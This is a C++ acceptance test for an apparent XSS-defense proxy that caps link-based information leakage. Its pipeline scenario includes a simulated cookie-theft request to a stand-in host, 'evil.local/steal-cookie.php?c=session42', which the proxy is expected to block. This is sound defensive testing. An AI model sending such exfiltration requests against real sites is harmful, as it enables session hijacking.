// Copyright 2026 The xssguard Authors. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Acceptance run. Prints one PASS/FAIL line per criterion and exits non-zero
// if any criterion fails. Network criteria run against loopback origin
// servers through the real proxy and management service.

#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <future>
#include <iostream>
#include <latch>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include <httplib.h>
#include <nlohmann/json.hpp>
#include <spdlog/spdlog.h>

#include "extraction_corpus.h"
#include "injection_corpus.h"
#include "net_fixture.h"
#include "test_util.h"
#include "xssguard/leakage.h"
#include "xssguard/link_extractor.h"
#include "xssguard/script_injector.h"

namespace xssguard {
namespace {

using SteadyClock = std::chrono::steady_clock;
using testing::ProxyStack;
using testing::U;

// Collects failed checks for one criterion.
class Check {
 public:
  void Expect(bool ok, const std::string& what) {
    if (!ok && failures_.size() < 8) failures_.push_back(what);
    if (!ok) ++failed_;
  }
  bool ok() const { return failed_ == 0; }
  std::string Summary() const {
    std::string out;
    for (const std::string& f : failures_) out += "\n    " + f;
    if (failed_ > failures_.size()) {
      out += "\n    ... " + std::to_string(failed_ - failures_.size()) +
             " more";
    }
    return out;
  }

 private:
  std::vector<std::string> failures_;
  size_t failed_ = 0;
};

double SecondsSince(SteadyClock::time_point start) {
  return std::chrono::duration<double>(SteadyClock::now() - start).count();
}

// Exact integer floor(log2(v)) by halving; 0 for v <= 1.
uint64_t FloorLog2(BigUint v) {
  uint64_t bits = 0;
  while (v > 1) {
    v >>= 1;
    ++bits;
  }
  return bits;
}

// Counts ordered r-tuples of distinct elements out of n by enumeration.
uint64_t CountTuples(uint64_t n, uint64_t r, std::vector<bool>& used) {
  if (r == 0) return 1;
  uint64_t total = 0;
  for (uint64_t i = 0; i < n; ++i) {
    if (used[i]) continue;
    used[i] = true;
    total += CountTuples(n, r - 1, used);
    used[i] = false;
  }
  return total;
}

GatewayConfig FastPromptConfig(uint64_t threshold) {
  GatewayConfig config;
  config.threshold_bits = threshold;
  config.alert_timeout = std::chrono::milliseconds(400);
  return config;
}

std::string Str(size_t v) { return std::to_string(v); }

// --------------------------------------------------------------------------

Check EightLinkTable() {
  Check check;
  const uint64_t expected[][2] = {{8, 3},      {56, 5},     {336, 8},
                                  {1680, 10},  {6720, 12},  {20160, 14},
                                  {40320, 15}, {40320, 15}};
  auto start = SteadyClock::now();
  for (uint64_t r = 1; r <= 8; ++r) {
    BigUint values = DistinctValues(8, r);
    uint64_t bits = LeakageBits(8, r);
    check.Expect(values == expected[r - 1][0] && bits == expected[r - 1][1],
                 "r=" + Str(r) + " gave (" + values.str() + "," + Str(bits) +
                     ")");
  }
  double elapsed = SecondsSince(start);
  check.Expect(elapsed < 1.0, "took " + std::to_string(elapsed) + " s");
  return check;
}

Check MultiDomainExample() {
  Check check;
  check.Expect(MaxRequestsWithin(8, 11) == 4,
               "MaxRequestsWithin(8, 11) = " + Str(MaxRequestsWithin(8, 11)));

  ProxyStack stack(FastPromptConfig(11));
  for (int i = 1; i <= 8; ++i) {
    stack.RouteToEvil("evil" + std::to_string(i) + ".com");
  }
  stack.site().Serve("/multi.html", "text/html", testing::kMultiDomainPage);
  for (const std::string& link : testing::kMultiDomainLinks) {
    stack.evil().Serve(U(link).host + U(link).path, "image/jpeg", "jpg");
  }
  stack.Start();
  const std::string page = "http://www.site.local/multi.html";
  check.Expect(stack.Fetch(page).status == 200, "page not served");
  for (size_t i = 0; i < testing::kMultiDomainLinks.size(); ++i) {
    auto reply = stack.Fetch(testing::kMultiDomainLinks[i], page);
    if (i < 4) {
      check.Expect(reply.status == 200,
                   testing::kMultiDomainLinks[i] + " -> " + Str(reply.status));
    } else {
      check.Expect(reply.status == 403 &&
                       reply.Header("x-filter-reason") == "leakage-threshold",
                   testing::kMultiDomainLinks[i] + " -> " + Str(reply.status) +
                       " " + reply.Header("x-filter-reason"));
    }
  }
  check.Expect(stack.evil().CountHits(".jpg") == 4,
               "origin saw " + Str(stack.evil().CountHits(".jpg")) +
                   " image requests");
  auto ledgers = stack.gateway().Ledgers();
  check.Expect(ledgers.size() == 1 && ledgers[0].n == 8 &&
                   ledgers[0].r == 4 && ledgers[0].bits == 10,
               "ledger is not n=8 r=4 bits=10");
  return check;
}

Check OracleEquivalence() {
  Check check;
  auto start = SteadyClock::now();
  for (uint64_t n = 0; n <= 10; ++n) {
    for (uint64_t r = 0; r <= n; ++r) {
      std::vector<bool> used(n, false);
      // No request at all carries no message.
      uint64_t oracle = r == 0 ? 0 : CountTuples(n, r, used);
      BigUint got = DistinctValues(n, r);
      check.Expect(got == oracle, "distinct_values(" + Str(n) + "," + Str(r) +
                                      ") = " + got.str() + ", enumeration " +
                                      Str(oracle));
      check.Expect(LeakageBits(n, r) == FloorLog2(oracle),
                   "bits(" + Str(n) + "," + Str(r) + ")");
    }
  }
  double elapsed = SecondsSince(start);
  check.Expect(elapsed < 5.0, "took " + std::to_string(elapsed) + " s");
  return check;
}

Check PipelineScenarios() {
  Check check;
  ProxyStack stack(FastPromptConfig(50));
  const std::string page = "http://www.site.local/index.html";
  stack.site().Serve(
      "/index.html", "text/html",
      "<html><head><title>site</title></head><body>"
      "<script src=\"http://client1.site.local/app.js\"></script>"
      "<img src=\"http://evil.local/banner.png\"></body></html>");
  stack.site().Serve("/app.js", "application/javascript", "var a = 1;");
  stack.evil().Serve("/banner.png", "image/png", "png");
  stack.evil().Serve("/steal-cookie.php", "text/plain", "got it");
  stack.Start();
  check.Expect(stack.Fetch(page).status == 200, "page not served");
  httplib::Client mgmt("127.0.0.1", stack.mgmt_port());

  // (a) Cookie theft to a host in no inventory: prompt, then deny on timeout.
  auto held = std::async(std::launch::async, [&] {
    return stack.Fetch("http://evil.local/steal-cookie.php?c=session42", page);
  });
  nlohmann::json pending;
  for (int i = 0; i < 50 && pending.empty(); ++i) {
    auto res = mgmt.Get("/api/alerts");
    if (res) pending = nlohmann::json::parse(res->body)["alerts"];
    if (pending.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  check.Expect(pending.size() == 1 && pending[0]["state"] == "pending",
               "(a) no pending alert while the request was held");
  auto theft = held.get();
  check.Expect(theft.status == 403 &&
                   theft.Header("x-filter-reason") == "no-rule",
               "(a) got " + Str(theft.status) + " " +
                   theft.Header("x-filter-reason"));
  check.Expect(stack.evil().CountHits("/steal-cookie.php") == 0,
               "(a) request reached evil.local");
  auto alerts = stack.gateway().Snapshot().alerts;
  check.Expect(alerts.size() == 1 && alerts[0].state == TicketState::kExpired,
               "(a) ticket did not expire");

  // (b) Same registrable domain: forwarded without a prompt.
  const uint64_t prompts = stack.gateway().Snapshot().stats.prompts;
  auto local = stack.Fetch("http://client1.site.local/app.js", page);
  check.Expect(local.status == 200, "(b) got " + Str(local.status));
  check.Expect(stack.gateway().Snapshot().stats.prompts == prompts,
               "(b) prompted");

  // (c) Static external link: forwarded without a prompt, r grows by one.
  const uint64_t r_before = stack.gateway().Ledgers()[0].r;
  auto banner = stack.Fetch("http://evil.local/banner.png", page);
  check.Expect(banner.status == 200, "(c) got " + Str(banner.status));
  check.Expect(stack.gateway().Snapshot().stats.prompts == prompts,
               "(c) prompted");
  check.Expect(stack.gateway().Ledgers()[0].r == r_before + 1,
               "(c) ledger r did not grow by one");
  return check;
}

Check InjectionSuite() {
  Check check;
  const std::string& element = BuildPayload().element;
  const std::string marker(BuildPayload().marker);
  auto corpus = testing::InjectionCorpus();
  check.Expect(corpus.size() == 20, "corpus has " + Str(corpus.size()));

  namespace fs = std::filesystem;
  fs::path dir = fs::temp_directory_path() /
                 ("xssguard_acceptance_" + std::to_string(::getpid()));
  fs::create_directories(dir);
  std::string files;
  for (const testing::InjectionCase& c : corpus) {
    std::string out = Inject(c.document);
    size_t count = 0;
    for (size_t at = out.find(marker); at != std::string::npos;
         at = out.find(marker, at + 1)) {
      ++count;
    }
    check.Expect(count == 1, c.name + ": marker count " + Str(count));
    size_t head = c.document.find(c.head_open);
    check.Expect(head != std::string::npos &&
                     out.compare(head + c.head_open.size(), element.size(),
                                 element) == 0,
                 c.name + ": payload not right after head start tag");
    std::string restored = out;
    if (size_t at = restored.find(element); at != std::string::npos) {
      restored.erase(at, element.size());
    }
    check.Expect(restored == c.document, c.name + ": bytes not preserved");
    check.Expect(Inject(out) == out, c.name + ": not idempotent");
    fs::path path = dir / (c.name + ".html");
    std::ofstream(path, std::ios::binary) << out;
    files += " \"" + path.string() + "\"";
  }

  if (std::string(XSSGUARD_NODE).empty()) {
    check.Expect(false, "node not available for the pop-up harness");
  } else {
    fs::path log = dir / "harness.log";
    std::string cmd = std::string("\"") + XSSGUARD_NODE + "\" \"" +
                      XSSGUARD_POPUP_HARNESS + "\"" + files + " > \"" +
                      log.string() + "\" 2>&1";
    int status = std::system(cmd.c_str());
    std::ifstream in(log);
    std::string line;
    size_t passes = 0;
    while (std::getline(in, line)) {
      if (line.rfind("PASS", 0) == 0) ++passes;
      if (line.rfind("FAIL", 0) == 0) check.Expect(false, line);
    }
    check.Expect(WIFEXITED(status) && WEXITSTATUS(status) == 0,
                 "pop-up harness exited with failure");
    check.Expect(passes == corpus.size() * 9,
                 "pop-up harness passed " + Str(passes) + " checks");
  }
  fs::remove_all(dir);
  return check;
}

std::set<std::string> Specs(const std::set<AbsoluteUrl>& urls) {
  std::set<std::string> out;
  for (const AbsoluteUrl& u : urls) out.insert(u.spec());
  return out;
}

// Random markup made of link-bearing elements, text and comments.
std::string RandomDocument(std::mt19937_64& rng) {
  static const char* const kHosts[] = {"site.example", "cdn.site.example",
                                       "a.example", "b.example.org"};
  static const char* const kShapes[] = {
      "<img src=\"%s\">", "<a href='%s'>x</a>", "<iframe src=%s></iframe>",
      "<div style=\"background:url(%s)\"></div>", "<!-- <img src=\"%s\"> -->",
      "<link rel=stylesheet href=\"%s\">", "<p>%s</p>"};
  std::string doc = "<html><head></head><body>";
  std::uniform_int_distribution<int> count(0, 12);
  for (int i = 0, n = count(rng); i < n; ++i) {
    std::string url = std::string("http://") + kHosts[rng() % 4] + "/p" +
                      std::to_string(rng() % 6);
    if (rng() % 4 == 0) url = "/rel" + std::to_string(rng() % 3);
    char buf[256];
    std::snprintf(buf, sizeof(buf), kShapes[rng() % 7], url.c_str());
    doc += buf;
  }
  return doc + "</body></html>";
}

Check ExtractionSuite() {
  Check check;
  for (const testing::ExtractionCase& c : testing::ExtractionCorpus()) {
    LinkInventory inv = ExtractStaticLinks(c.document, U(c.base));
    check.Expect(Specs(inv.external_links) == c.external,
                 c.name + ": external links differ");
    check.Expect(Specs(inv.local_links) == c.local,
                 c.name + ": local links differ");
    check.Expect(Specs(inv.frame_links) == c.frames,
                 c.name + ": frame links differ");
    LinkInventory twice =
        ExtractStaticLinks(c.document + c.document, U(c.base));
    check.Expect(twice.external_links == inv.external_links &&
                     twice.local_links == inv.local_links &&
                     twice.frame_links == inv.frame_links,
                 c.name + ": doc+doc differs from doc");
  }
  std::mt19937_64 rng(testing::TestSeed());
  const AbsoluteUrl base = U("http://site.example/dir/page.html");
  for (int i = 0; i < 500; ++i) {
    std::string doc = RandomDocument(rng);
    LinkInventory once = ExtractStaticLinks(doc, base);
    LinkInventory twice = ExtractStaticLinks(doc + doc, base);
    check.Expect(once.external_links == twice.external_links &&
                     once.local_links == twice.local_links &&
                     once.frame_links == twice.frame_links,
                 "generated doc+doc differs: " + doc);
  }
  return check;
}

Check ConcurrentBudget() {
  Check check;
  constexpr int kLinks = 100;
  constexpr uint64_t kThreshold = 40;
  const uint64_t r_max = MaxRequestsWithin(kLinks, kThreshold);
  check.Expect(r_max > 0 && r_max < kLinks, "r_max = " + Str(r_max));

  ProxyStack stack(FastPromptConfig(kThreshold));
  std::string html = "<html><head></head><body>";
  std::vector<std::string> links;
  for (int i = 0; i < kLinks; ++i) {
    links.push_back("http://evil.local/p" + std::to_string(i) + ".png");
    stack.evil().Serve("/p" + std::to_string(i) + ".png", "image/png", "p");
    html += "<img src=\"" + links.back() + "\">";
  }
  stack.site().Serve("/many.html", "text/html", html + "</body></html>");
  stack.Start();
  const std::string page = "http://www.site.local/many.html";

  for (int round = 0; round < 10; ++round) {
    const size_t hits_before = stack.evil().CountHits(".png");
    check.Expect(stack.Fetch(page).status == 200, "page not served");
    std::latch go(kLinks);
    std::vector<std::future<testing::ProxyReply>> replies;
    for (const std::string& link : links) {
      replies.push_back(std::async(std::launch::async, [&, link] {
        go.arrive_and_wait();
        return stack.Fetch(link, page);
      }));
    }
    size_t forwarded = 0;
    size_t limited = 0;
    for (auto& f : replies) {
      auto reply = f.get();
      if (reply.status == 200) ++forwarded;
      if (reply.status == 403 &&
          reply.Header("x-filter-reason") == "leakage-threshold") {
        ++limited;
      }
    }
    auto ledgers = stack.gateway().Ledgers();
    const std::string tag = "round " + Str(round) + ": ";
    check.Expect(ledgers.size() == 1 && ledgers[0].r <= r_max,
                 tag + "ledger r exceeds r_max");
    check.Expect(ledgers.size() == 1 && ledgers[0].r == forwarded,
                 tag + "ledger r differs from forwarded count");
    check.Expect(forwarded == r_max,
                 tag + "forwarded " + Str(forwarded) + " of r_max " +
                     Str(r_max));
    check.Expect(limited == kLinks - r_max,
                 tag + "denied " + Str(limited) + " at the threshold");
    check.Expect(stack.evil().CountHits(".png") - hits_before == r_max,
                 tag + "origin saw more than r_max requests");
    check.Expect(ledgers.size() == 1 && ledgers[0].bits <= kThreshold,
                 tag + "bits over threshold");
  }
  return check;
}

struct Criterion {
  const char* name;
  std::function<Check()> run;
};

}  // namespace
}  // namespace xssguard

int main() {
  using namespace xssguard;
  spdlog::set_level(spdlog::level::warn);
  const Criterion criteria[] = {
      {"eight-link-table", EightLinkTable},
      {"multi-domain-example", MultiDomainExample},
      {"distinct-values-oracle", OracleEquivalence},
      {"pipeline-scenarios", PipelineScenarios},
      {"injection-suite", InjectionSuite},
      {"extraction-suite", ExtractionSuite},
      {"concurrent-budget", ConcurrentBudget},
  };
  int failed = 0;
  for (const Criterion& c : criteria) {
    auto start = SteadyClock::now();
    Check check;
    try {
      check = c.run();
    } catch (const std::exception& e) {
      check.Expect(false, std::string("exception: ") + e.what());
    }
    std::printf("%s %s (%.3f s)%s\n", check.ok() ? "PASS" : "FAIL", c.name,
                SecondsSince(start), check.Summary().c_str());
    if (!check.ok()) ++failed;
  }
  std::printf("%d/%zu criteria passed\n",
              static_cast<int>(std::size(criteria)) - failed,
              std::size(criteria));
  return failed == 0 ? 0 : 1;
}
